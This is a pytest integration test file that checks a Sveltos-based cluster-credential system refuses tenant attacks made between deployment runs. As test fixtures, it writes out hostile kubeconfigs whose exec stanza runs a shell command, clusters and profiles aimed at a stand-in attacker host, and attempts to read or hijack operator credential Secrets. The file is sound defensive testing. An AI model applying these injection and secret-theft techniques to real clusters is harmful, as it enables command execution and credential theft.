"""SPEC §9 in events mode, with real Sveltos: what a tenant writes between runs is not acted on.

`pulumi up` installs the Event Framework objects; from then on only Sveltos acts (event-manager,
addon-controller and the project's eventreporter in sveltos-agent's place, as in
test_events_sveltos.py). A tenant ServiceAccount with rights only in its own namespace then
performs the attacks of issue 22 through the API server, and no further `up` runs: the routes
baked into the Lua are all that stands between the tenant and the credentials.

Each attack comes with a harmless twin the tenant is entitled to (its own cluster, its own
profile): Sveltos writing the twins proves it evaluated the tenant's objects, so the absence
of everything else is a refusal, not a wait that ended too early.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from kubernetes import client
from kubernetes.client.rest import ApiException

from tests.integration.controlplane import ControlPlane, wait_for
from tests.integration.inventory_objects import SVELTOS, Inventory, kubeconfig_text, secret_reader_provider
from tests.integration.project import ProjectStack
from tests.integration.watching import ObjectWatch

CONVERGE_TIMEOUT_S = 120
# How long the converged state must hold: several eventreporter intervals (2 s).
HOLD_S = 10
PROFILE_LABEL = "x-k8s.io/cluster-profile"
CAPI_CLUSTER_LABEL = "cluster.x-k8s.io/cluster-name"


@dataclass
class Fleet:
    run_id: str
    stack: ProjectStack
    admin: Inventory
    tenant: Inventory  # acts with the tenant ServiceAccount's token
    capi_ns: str
    fleet_ns: str
    tenant_ns: str
    consumer_ns: str
    consumer_label: str

    @property
    def managed(self) -> str:
        return f"app.kubernetes.io/managed-by=ci-{self.run_id}"

    def written(self) -> dict[str, dict[str, Any]]:
        """Every Secret and SveltosCluster carrying this run's managed-by label, by kind/ns/name."""
        found: dict[str, dict[str, Any]] = {}
        api = self.admin.core.api_client
        for secret in self.admin.core.list_secret_for_all_namespaces(label_selector=self.managed).items:
            body = api.sanitize_for_serialization(secret)
            found[f"Secret/{secret.metadata.namespace}/{secret.metadata.name}"] = body
        group, version, plural = SVELTOS
        for item in self.admin.custom.list_cluster_custom_object(group, version, plural,
                                                                 label_selector=self.managed)["items"]:
            found[f"SveltosCluster/{item['metadata']['namespace']}/{item['metadata']['name']}"] = item
        return found


def tenant_api(control_plane: ControlPlane, namespace: str) -> client.ApiClient:
    """A client holding a tenant ServiceAccount's token: namespace-scoped rights in ``namespace`` only."""
    core, rbac = client.CoreV1Api(control_plane.api), client.RbacAuthorizationV1Api(control_plane.api)
    core.create_namespaced_service_account(namespace, {"metadata": {"name": "tenant"}})
    rbac.create_namespaced_role(namespace, {"metadata": {"name": "tenant"}, "rules": [
        {"apiGroups": [""], "resources": ["secrets"], "verbs": ["*"]},
        {"apiGroups": ["cluster.x-k8s.io"], "resources": ["clusters"], "verbs": ["*"]},
        {"apiGroups": ["multicluster.x-k8s.io"], "resources": ["clusterprofiles", "clusterprofiles/status"],
         "verbs": ["*"]},
    ]})
    rbac.create_namespaced_role_binding(namespace, {
        "metadata": {"name": "tenant"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "tenant"},
        "subjects": [{"kind": "ServiceAccount", "name": "tenant", "namespace": namespace}],
    })
    token = core.create_namespaced_service_account_token(
        "tenant", namespace, {"spec": {"expirationSeconds": 3600}}).status.token
    configuration = copy.deepcopy(control_plane.api.configuration)
    configuration.cert_file = configuration.key_file = None
    configuration.api_key = {"authorization": f"Bearer {token}"}
    return client.ApiClient(configuration)


def exec_kubeconfig(server: str) -> str:
    return kubeconfig_text(server, "unused").replace(
        '"user": {"token": "unused"}', '"user": {"exec": {"apiVersion": "client.authentication.k8s.io/v1", '
        '"command": "/bin/sh", "args": ["-c", "id"]}}')


def digest(value: str) -> str:
    return hashlib.sha256(value.encode()).hexdigest()[:12]


@pytest.fixture(scope="module")
def fleet(control_plane: ControlPlane, sveltos: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fleet]:
    run_id = uuid.uuid4().hex[:6]
    admin = Inventory(control_plane.api)
    # The tenant's namespace sorts before the operator's fleet namespace, so seed 000's
    # "first claimant" would hand it the ClusterSet.
    capi_ns, fleet_ns, tenant_ns = f"capi-{run_id}", f"fleet-{run_id}", f"a-tenant-{run_id}"
    consumer_ns, consumer_label = f"team-a-{run_id}", f"consumer-{run_id}"
    admin.namespace(capi_ns)
    admin.namespace(fleet_ns, {"clusterset.multicluster.x-k8s.io": f"prod-{run_id}"})
    admin.namespace(consumer_ns, {consumer_label: ""})
    admin.namespace(tenant_ns)
    admin.capi_cluster(capi_ns, "alpha", {"clusterprofile-name": "alpha", "clusterset.k8s.io": f"prod-{run_id}"},
                       kubeconfig_text("https://alpha.example:6443", f"alpha-{run_id}"))
    admin.capi_cluster(capi_ns, "beta", {"clusterprofile-name": "beta", "clusterprofile-namespace": fleet_ns},
                       kubeconfig_text("https://beta.example:6443", f"beta-{run_id}"))
    admin.cluster_profile(fleet_ns, "east", [], labels={"env": "prod"})
    admin.secret(fleet_ns, "east-credentials", {"kubeconfig": kubeconfig_text("https://east.example:6443", "e")},
                 labels={PROFILE_LABEL: "east"})
    # No seed routes: only the routes below.
    stack = ProjectStack(tmp_path_factory.mktemp("events-tenants") / "project", routes={})
    stack.configure(
        kubeconfig=str(control_plane.kubeconfig),
        capiNamespaces=[capi_ns, tenant_ns], profileNamespaces=[fleet_ns, tenant_ns],
        consumerNamespaceLabel=consumer_label, consumerNamespaces=[consumer_ns],
        clusterPlacementRoutes={capi_ns: [fleet_ns]},
        # Every label, to show that even then the management selector's key is never carried.
        sveltosClusterLabels=["*"],
        managedByValue=f"ci-{run_id}", eventsNamePrefix=f"evt-{run_id}", eventsNamespace=fleet_ns,
        scheduleIntervalMinutes=0, pushMode="events", sveltosMode="events",
    )
    fleet = Fleet(run_id, stack, admin, Inventory(tenant_api(control_plane, tenant_ns)), capi_ns, fleet_ns,
                  tenant_ns, consumer_ns, consumer_label)
    yield fleet
    stack.destroy()
    wait_for(lambda: fleet.written() == {}, "Sveltos withdraws its objects after destroy", CONVERGE_TIMEOUT_S, interval=1)
    for ns in (capi_ns, fleet_ns, tenant_ns, consumer_ns):
        control_plane.delete_namespace(ns)


def converge(fleet: Fleet, expected: set[str]) -> dict[str, dict[str, Any]]:
    """Wait until Sveltos has written exactly ``expected``, then check it holds."""
    deadline = time.monotonic() + CONVERGE_TIMEOUT_S
    while set(fleet.written()) != expected and time.monotonic() < deadline:
        time.sleep(1)
    written = set(fleet.written())
    assert written == expected, f"missing {sorted(expected - written)}, unexpected {sorted(written - expected)}"
    time.sleep(HOLD_S)
    written = fleet.written()
    assert set(written) == expected
    return written


def operator_objects(fleet: Fleet) -> set[str]:
    return {f"Secret/{fleet.consumer_ns}/{fleet.fleet_ns}-alpha-kubeconfig",
            f"Secret/{fleet.consumer_ns}/{fleet.fleet_ns}-beta-kubeconfig",
            f"SveltosCluster/{fleet.fleet_ns}/east", f"Secret/{fleet.fleet_ns}/east-sveltos-kubeconfig"}


def test_up_hands_the_operators_inventory_to_sveltos(fleet: Fleet) -> None:
    fleet.stack.up()
    converge(fleet, operator_objects(fleet))


def test_the_tenant_holds_rights_only_in_its_own_namespace(fleet: Fleet) -> None:
    with pytest.raises(ApiException) as denied:
        fleet.tenant.core.read_namespaced_secret("beta-kubeconfig", fleet.capi_ns)
    assert denied.value.status == 403


def test_tenant_attacks_between_runs_are_not_acted_on_by_sveltos(fleet: Fleet) -> None:
    before = fleet.written()
    tenant, ns = fleet.tenant, fleet.tenant_ns
    # A tenancy tool lets the tenant label its namespace: a consumer, and a claim on the ClusterSet.
    fleet.admin.namespace(ns, {fleet.consumer_label: "", "clusterset.multicluster.x-k8s.io": f"prod-{fleet.run_id}"})
    # Its Cluster places itself in the operator's namespace, onto beta's Secret name.
    tenant.capi_cluster(ns, "evil", {"clusterprofile-name": "beta", "clusterprofile-namespace": fleet.fleet_ns},
                        kubeconfig_text("https://attacker.example:6443", "evil"))
    # A Cluster of its own whose kubeconfig runs a command on every consumer.
    tenant.capi_cluster(ns, "runner", {"clusterprofile-name": "runner", "clusterprofile-namespace": ns},
                        exec_kubeconfig("https://attacker.example:6443"))
    # A profile reading the operator's kubeconfig Secret, and one labelled like the management cluster.
    tenant.cluster_profile(ns, "stolen", [secret_reader_provider("https://attacker.example:6443", "beta-kubeconfig",
                                                                 "value", namespace=fleet.capi_ns)])
    tenant.cluster_profile(ns, "mgmtlike", [], labels={"type": "mgmt", "env": "dev"})
    tenant.secret(ns, "mgmtlike-credentials", {"kubeconfig": kubeconfig_text("https://dev.example:6443", "d")},
                  labels={PROFILE_LABEL: "mgmtlike"})
    # A profile whose labelled Secret runs a command in Sveltos' controllers.
    tenant.cluster_profile(ns, "runprof", [])
    tenant.secret(ns, "runprof-credentials", {"kubeconfig": exec_kubeconfig("https://attacker.example:6443")},
                  labels={PROFILE_LABEL: "runprof"})
    # The harmless twin of the Cluster attacks: the tenant's own Cluster, published under its own namespace.
    tenant.capi_cluster(ns, "dev", {"clusterprofile-name": "dev", "clusterprofile-namespace": ns},
                        kubeconfig_text("https://dev.example:6443", "dev"))

    written = converge(fleet, operator_objects(fleet) | {
        f"Secret/{fleet.consumer_ns}/{ns}-dev-kubeconfig",
        f"SveltosCluster/{ns}/mgmtlike", f"Secret/{ns}/mgmtlike-sveltos-kubeconfig"})

    # The tenant's namespace received no credential; beta's Secret still carries beta's kubeconfig;
    # alpha's ClusterSet still resolves to the operator's namespace (its Secret name says so).
    assert not any(key.startswith(f"Secret/{ns}/") and key.endswith("-kubeconfig") and "sveltos" not in key
                   for key in written)
    source = fleet.admin.core.read_namespaced_secret("beta-kubeconfig", fleet.capi_ns).data or {}
    beta = str(source["value"])
    beta_push = written[f"Secret/{fleet.consumer_ns}/{fleet.fleet_ns}-beta-kubeconfig"]
    assert digest(beta_push["data"]["config"]) == digest(beta)
    for key in operator_objects(fleet):
        assert written[key]["metadata"]["resourceVersion"] == before[key]["metadata"]["resourceVersion"], key
    # The profile labelled type=mgmt did not become a second management cluster.
    labels = written[f"SveltosCluster/{ns}/mgmtlike"]["metadata"]["labels"]
    assert "type" not in labels and labels["env"] == "dev"


def test_a_kubeconfig_turned_runnable_after_sveltos_copied_it_is_never_copied_again(fleet: Fleet) -> None:
    # addon-controller re-reads a source Secret whenever it changes, with no new event: the Lua
    # checked the old bytes, so the templates check the bytes they copy. Every version of every
    # Secret Sveltos writes is watched: not one may carry the exec stanza, even for a moment.
    ns = fleet.tenant_ns
    seen_exec: list[str] = []

    def inspect(_: str, secret: Any) -> None:
        for value in (secret.data or {}).values():
            if b'"exec"' in base64.b64decode(value):
                seen_exec.append(f"{secret.metadata.namespace}/{secret.metadata.name}")

    runnable = base64.b64encode(exec_kubeconfig("https://dev.example:6443").encode()).decode()
    with ObjectWatch(fleet.admin.core.list_secret_for_all_namespaces, fleet.managed, on_event=inspect):
        fleet.tenant.core.patch_namespaced_secret("dev-kubeconfig", ns, {"data": {"value": runnable}})
        fleet.tenant.core.patch_namespaced_secret("mgmtlike-credentials", ns, {"data": {"kubeconfig": runnable}})
        # The Lua drops both targets at its next evaluation, and Sveltos withdraws what it wrote.
        converge(fleet, operator_objects(fleet))
    assert seen_exec == []
